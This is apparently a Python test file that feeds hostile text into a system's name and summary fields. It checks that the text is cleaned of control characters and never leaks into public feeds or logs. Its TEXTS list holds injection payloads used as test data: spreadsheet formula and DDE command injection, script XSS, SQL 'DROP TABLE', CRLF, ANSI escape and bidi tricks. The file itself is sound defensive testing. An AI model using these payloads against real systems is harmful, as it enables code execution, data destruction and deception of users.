"""Row 29: text that is meant for whoever shows it. It is kept, cleaned, and no public file or log carries it."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import HealthCheck, given, seed
from hypothesis import settings as limits
from hypothesis import strategies as st

from tests.faults.invariants import broken
from tests.faults.outcome import Run
from tests.faults.rig import Rig
from tests.faults.test_times import SOON, TIMED, clock

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("faults of answers")]

CANARY = "BẪY-7731"
TEXTS = (
    f"=HYPERLINK(\"http://x.example/?\"&A1;\"{CANARY}\")", f"+cmd|' /C calc'!A0 {CANARY}", f"@SUM(1+1)*{CANARY}",
    f"<script>alert('{CANARY}')</script>", f"<img src=x onerror=alert(1)> {CANARY}", f"{CANARY}\r\nWARNING giả mạo",
    f"{CANARY}\x00\x1b[31m", f"\u202e{CANARY}\u2066", f"{{{{7*7}}}} ${{{CANARY}}} %s %n",
    f"'; DROP TABLE x; -- {CANARY}", f"{CANARY}\t\u2028,\"", CANARY + "x" * 100_000,
)  # fmt: skip
CONTROL = {"Cc", "Cs"}


def written_to(rig: Rig, texts: tuple[str, ...]) -> dict[str, list[str]]:
    """Each victim has each text once: as a name, a summary and the name of a procedure."""
    clock(rig, SOON)
    return {
        source: [
            code
            for text in texts
            for code in rig.edit(source, op="text", count=1, name=text, summary=text, procedure_name=text)
        ]
        for source in rig.offices.victims_of(*TIMED)
    }


def test_row_29_hostile_text_is_shown_by_nobody(read_rig: Rig, clean: Run) -> None:
    rig = read_rig
    written = written_to(rig, TEXTS)
    run = rig.run(as_of=SOON)
    evidence = rig.evidence(run, clean, {source: set() for source in written}, moves_much=False)
    assert broken(evidence) == []
    public = [*evidence.feed.text.values(), *run.log, json.dumps(run.batches, default=str)]
    assert not any(CANARY in text for text in public)
    for source, codes in written.items():
        assert set(codes) <= run.after.codes(source) | run.after.refused(source)
    assert not any(has_controls(text) for text in kept(run, written))
    rig.drain(SOON)
    told = rig.city.http.get(f"{rig.city.url}/control/portal/summary").json()
    assert (told["refused"], told["backwards"]) == ([], [])


@seed(29)
@limits(max_examples=1, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(st.text(min_size=1, max_size=200), min_size=8, max_size=8))
def test_row_29_any_text_is_kept_or_refused(read_rig: Rig, clean: Run, texts: list[str]) -> None:
    rig = read_rig
    written = written_to(rig, tuple(texts))
    run = rig.run(as_of=SOON)
    evidence = rig.evidence(run, clean, {source: set() for source in written}, moves_much=False)
    assert broken(evidence) == []
    assert not any(has_controls(text) for text in kept(run, written))


def kept(run: Run, written: dict[str, list[str]]) -> list[str]:
    meant = {code for codes in written.values() for code in codes}
    rows = [row for row in run.after.of("private.applicant") if row["code"] in meant]
    return [row[name] for row in rows for name in ("name", "summary") if row[name] is not None]


def has_controls(text: str) -> bool:
    return any(unicodedata.category(letter) in CONTROL for letter in text)
